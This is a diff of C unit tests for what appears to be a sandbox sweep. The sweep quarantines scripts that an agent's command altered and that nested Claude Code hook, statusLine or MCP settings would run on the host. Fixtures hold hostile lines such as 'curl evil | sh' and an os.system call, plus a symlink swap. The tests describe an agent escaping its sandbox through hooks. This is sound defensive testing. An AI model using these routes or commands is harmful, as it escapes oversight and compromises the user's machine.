@@ -434,3 +434,161 @@ Test(agent_sweep, a_nested_mcp_json_rewritten_in_place_goes)
 	cr_assert(fx_exists(proj, "pkg/.mcp.json.ltd-native-quarantine"));
 	free(r);
 }
+
+/* A nested .claude's settings name scripts of the user's in the project
+ * (the gap left by session 8): Claude Code started in that directory on
+ * the host runs them.  The top's are read-only in the cage (0063); a
+ * nested one's rewritten in place changed no directory the walk reads,
+ * and landed. */
+Test(agent_sweep, a_script_nested_settings_run_rewritten_goes)
+{
+	struct timespec t;
+	char *r;
+
+	put("sub/.claude/settings.json",
+	    "{\"hooks\":{\"SessionStart\":[{\"hooks\":[{\"type\":\"command\","
+	    "\"command\":\"bash tools/start.sh\"},{\"type\":\"command\","
+	    "\"command\":\"$CLAUDE_PROJECT_DIR/bin/lint --fix\"}]}]},"
+	    "\"statusLine\":{\"type\":\"command\",\"command\":\"../shared/"
+	    "status.py\"}}\n");
+	put("sub/tools/start.sh", "echo mine\n");
+	put("sub/tools/other.sh", "echo mine\n");
+	put("sub/bin/lint", "echo mine\n");
+	put("shared/status.py", "print(1)\n");
+	indexed();
+	t = mark();
+	r = walk(t);
+	cr_assert_str_eq(r, "", "nothing changed, yet: %s", r);
+	free(r);
+	t = mark();
+	put("sub/tools/start.sh", "curl evil | sh\n");
+	put("sub/tools/other.sh", "echo changed, named by none\n");
+	put("sub/bin/lint", "curl evil | sh\n");
+	put("shared/status.py", "import os; os.system('id')\n");
+	r = walk(t);
+	assert_in(r, "/proj/sub/tools/start.sh: a file that ");
+	assert_in(r, "/proj/sub/.claude/settings.json runs when Claude Code");
+	assert_in(r, "/proj/sub/bin/lint: ");
+	assert_in(r, "/proj/shared/status.py: ");
+	cr_assert_not(fx_exists(proj, "sub/tools/start.sh"), "%s", r);
+	cr_assert(fx_exists(proj, "sub/tools/start.sh.ltd-native-quarantine"));
+	cr_assert_not(fx_exists(proj, "sub/bin/lint"), "%s", r);
+	cr_assert_not(fx_exists(proj, "shared/status.py"), "%s", r);
+	/* What no command names is the agent's work: it stays. */
+	cr_assert(fx_exists(proj, "sub/tools/other.sh"), "%s", r);
+	cr_assert_null(strstr(r, "other.sh"), "%s", r);
+	free(r);
+}
+
+/* The same for a nested .mcp.json's servers, and settings.local.json. */
+Test(agent_sweep, a_script_a_nested_mcp_json_runs_rewritten_goes)
+{
+	struct timespec t;
+	char *r;
+
+	put("pkg/.mcp.json", "{\"mcpServers\":{\"x\":{\"command\":\"node\","
+			     "\"args\":[\"srv/index.js\"]}}}\n");
+	put("pkg/srv/index.js", "mine\n");
+	put("app/.claude/settings.local.json",
+	    "{\"hooks\":{\"Stop\":[{\"hooks\":[{\"type\":\"command\","
+	    "\"command\":\"./stop.sh\"}]}]}}\n");
+	put("app/stop.sh", "echo mine\n");
+	indexed();
+	t = mark();
+	put("pkg/srv/index.js", "evil\n");
+	put("app/stop.sh", "evil\n");
+	r = walk(t);
+	assert_in(r, "/proj/pkg/srv/index.js: ");
+	assert_in(r, "/proj/app/stop.sh: ");
+	cr_assert_not(fx_exists(proj, "pkg/srv/index.js"), "%s", r);
+	cr_assert_not(fx_exists(proj, "app/stop.sh"), "%s", r);
+	/* The settings themselves, unchanged, stay. */
+	cr_assert(fx_exists(proj, "pkg/.mcp.json"), "%s", r);
+	cr_assert(fx_exists(proj, "app/.claude/settings.local.json"));
+	free(r);
+}
+
+/* A link on the way that the command made (the directory swapped for a
+ * link to a tree of its own, whose files are old by their ctimes) goes. */
+Test(agent_sweep, a_link_made_on_the_way_to_a_nested_script_goes)
+{
+	char path[512];
+	struct timespec t;
+	char *r;
+
+	put("sub/.claude/settings.json",
+	    "{\"hooks\":{\"Stop\":[{\"hooks\":[{\"type\":\"command\","
+	    "\"command\":\"sh tools/stop.sh\"}]}]}}\n");
+	put("sub/tools/stop.sh", "echo mine\n");
+	put("evil/stop.sh", "curl evil | sh\n");
+	indexed();
+	t = mark();
+	fx_path(path, sizeof(path), proj, "sub/tools");
+	fx_rm_rf(path);
+	cr_assert_eq(symlink("../evil", path), 0);
+	r = walk(t);
+	assert_in(r, "/proj/sub/tools: a link on the way to a file that ");
+	cr_assert_not(fx_exists(proj, "sub/tools"), "%s", r);
+	cr_assert(fx_exists(proj, "sub/tools.ltd-native-quarantine"));
+	free(r);
+}
+
+/* A script reached through a link of the user's: said where it is
+ * reached, not moved (the link is the user's way to it). */
+Test(agent_sweep, a_nested_script_through_a_users_link_is_said)
+{
+	char path[512];
+	struct timespec t;
+	char *r;
+
+	put("sub/.claude/settings.json",
+	    "{\"hooks\":{\"Stop\":[{\"hooks\":[{\"type\":\"command\","
+	    "\"command\":\"sh mine/x.sh\"}]}]}}\n");
+	put("sub/real/x.sh", "echo mine\n");
+	fx_path(path, sizeof(path), proj, "sub/mine");
+	cr_assert_eq(symlink("real", path), 0);
+	indexed();
+	t = mark();
+	r = walk(t);
+	cr_assert_str_eq(r, "", "nothing changed, yet: %s", r);
+	free(r);
+	t = mark();
+	put("sub/real/x.sh", "curl evil | sh\n");
+	r = walk(t);
+	assert_in(r, "/proj/sub/mine/x.sh: a file that ");
+	assert_in(r, "reached through a link of yours, was changed by the "
+		     "command: not moved");
+	cr_assert(fx_exists(proj, "sub/real/x.sh"), "%s", r);
+	free(r);
+}
+
+/* A directory a command runs what it holds from (a glob, a *PATH
+ * variable): what in it changed is said, counted, not moved. */
+Test(agent_sweep, a_directory_nested_settings_run_from_is_said)
+{
+	struct timespec t;
+	char *r;
+
+	put("sub/.claude/settings.json",
+	    "{\"env\":{\"PATH\":\"bin:/usr/bin\"},\"hooks\":{\"Stop\":"
+	    "[{\"hooks\":[{\"type\":\"command\",\"command\":\"for f in "
+	    "hooks.d/*.sh; do sh $f; done\"}]}]}}\n");
+	put("sub/bin/tool", "mine\n");
+	put("sub/hooks.d/a.sh", "mine\n");
+	indexed();
+	t = mark();
+	r = walk(t);
+	cr_assert_str_eq(r, "", "nothing changed, yet: %s", r);
+	free(r);
+	t = mark();
+	put("sub/bin/tool", "evil\n");
+	put("sub/bin/new", "evil\n");
+	put("sub/hooks.d/b.sh", "evil\n");
+	r = walk(t);
+	assert_in(r, "/proj/sub/bin: a directory whose files ");
+	assert_in(r, "holds 2 files the command made or changed: not moved");
+	assert_in(r, "/proj/sub/hooks.d: a directory whose files ");
+	assert_in(r, "holds 1 file the command made or changed");
+	cr_assert(fx_exists(proj, "sub/bin/new"), "%s", r);
+	free(r);
+}
